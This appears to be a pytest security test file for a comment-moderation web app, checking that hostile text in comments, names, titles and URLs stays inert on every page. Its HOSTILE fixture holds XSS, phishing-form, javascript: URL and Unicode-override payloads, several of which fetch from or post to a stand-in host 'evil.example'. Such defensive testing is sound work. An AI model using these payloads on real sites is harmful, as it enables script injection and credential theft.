"""What strangers write is only ever text: in a comment, a name, a title, on every page."""

from __future__ import annotations

import pytest

from moderation.records import Article, Report

EVIL = "https://evil.example"
HOSTILE = {
    "script": f"<script>document.title='owned'; fetch('{EVIL}/script')</script>",
    "style": "<style>body, .desk { background: red !important } button { display: none }</style>",
    "form": f"<form action='{EVIL}/form'><input name=password><button>Log in</button></form>",
    "img": f"<img src='{EVIL}/img.png' onerror=\"document.title='owned'\">",
    "markdown-image": f"![look]({EVIL}/markdown.png) [press here]({EVIL}/markdown)",
    "svg": f"<svg onload=\"fetch('{EVIL}/svg')\"><use href='{EVIL}/use.svg#a'/></svg>",
    "javascript-url": "[press](javascript:document.title='owned') javascript:alert(1)",
    "override": "safe \u202egnp.evil\u202c end, zero\u200bwidth, nul-like \x07 bell",
    "streamlit": ":red[red] :material/delete: $$x^2$$ :rainbow[a] {{7*7}} ${7*7}",
}
ELEMENTS = "script, style, form, img, svg, iframe, object, embed, link, video, audio, base, meta"


@pytest.fixture
def hostile_server(serve, scored):
    """A queue where text, author, title, parent, report and every address is hostile."""
    rows, articles = [], []
    for number, text in enumerate(HOSTILE.values(), 1):
        thread = f"t{number}"
        articles.append(
            Article("wire", text, thread, title=text, text=f"First.\n{text}", url="javascript:document.title='owned'")
        )
        common = {"thread_id": thread, "author": text, "url": f"data:text/html,{text}"}
        rows.append(scored(100 + number, text, "approve", **common))
        more = {"parent_id": f"c{100 + number}", "reply_to": text, "reports": (Report(text, text),)}
        rows.append(scored(number, f"{text} and {text}", **common, **more))
    return serve(rows, tuple(articles))


def _look(page):
    """The page's style and all elements that text could have made, in every open shadow root."""
    return page.evaluate(
        """(elements) => {
            const roots = [document.body];
            for (const node of document.querySelectorAll("div")) if (node.shadowRoot) roots.push(node.shadowRoot);
            const isOurStyle = (node) => node.tagName === "STYLE" && node.textContent.includes(".sr-only");
            const ours = roots.slice(1).flatMap((root) => [...root.querySelectorAll(elements)])
                .filter((node) => !isOurStyle(node));
            const charts = "form:not(.vega-bindings:empty)";  // the charts' library leaves an empty form under each
            const inPage = [...document.body.querySelectorAll(`${charts}, iframe, [src*='evil'], [href*='evil']`)];
            const links = roots.flatMap((root) => [...root.querySelectorAll("a[href]")].map((node) => node.href));
            return { made: [...ours, ...inPage].map((node) => node.outerHTML), links, title: document.title,
                     back: getComputedStyle(document.body).backgroundColor };
        }""",
        ELEMENTS,
    )


def test_hostile_text_is_inert(hostile_server, screen):
    """No element, no link, no request, no change of style comes of it, on any page that shows it."""
    queue = screen(hostile_server)
    before = _look(queue.page)
    shown = []
    for _ in HOSTILE:
        queue.page.wait_for_timeout(60)
        shown.append(queue.page.locator(".comment").inner_text())
        queue.press("f")
    queue.await_saved()
    after = _look(queue.page)
    queue.page.get_by_role("link", name="Decisions").click()
    queue.page.wait_for_selector(".ledger .row")
    decisions = _look(queue.page)
    queue.page.get_by_role("link", name="Insights").click()
    queue.page.wait_for_selector("form.vega-bindings", state="attached")
    overview = _look(queue.page)
    others = []
    for name in ("Threads", "Handover"):
        queue.page.get_by_role("link", name=name).click()
        queue.page.locator(".comments").first.wait_for()
        others.append(_look(queue.page))
    queue.page.get_by_role("link", name="Threads").click()
    queue.page.locator(".comments .author-name").first.click()
    queue.page.get_by_text("Share rejected").wait_for()
    others.append(_look(queue.page))

    for look in (before, after, decisions, overview, *others):
        assert look["made"] == []
        assert "owned" not in look["title"]
        assert look["back"] == before["back"]
        assert [link for link in look["links"] if not link.startswith(hostile_server.address)] == []
    assert queue.outside() == []
    assert any("<script>" in text for text in shown)
    assert len(hostile_server.rulings()) == len(HOSTILE)


@pytest.mark.soak
def test_overrides_are_shown_not_obeyed(hostile_server, screen):
    """A direction override stands there by name, and none is left in the document."""
    queue = screen(hostile_server)
    with_override = None
    for _ in range(len(HOSTILE)):
        if queue.page.locator(".hidden-char").count():
            with_override = queue.page.locator(".card").inner_text()
            break
        queue.press("j")

    # The comments of the test before are decided; without one left, the decisions show the same text.
    if with_override is None:
        queue.page.get_by_role("link", name="Decisions").click()
        queue.page.wait_for_selector(".ledger .row")
        with_override = queue.page.locator(".ledger").inner_text()
    assert "RLO" in with_override
    assert "\u202e" not in with_override


def test_web_addresses_become_links(server, screen):
    """An http address is a link that opens apart and tells the other side nothing."""
    queue = screen(server)

    links = queue.page.locator(".card a")

    assert links.count() == 2
    for place in range(2):
        assert links.nth(place).get_attribute("target") == "_blank"
        assert links.nth(place).get_attribute("rel") == "noopener noreferrer"
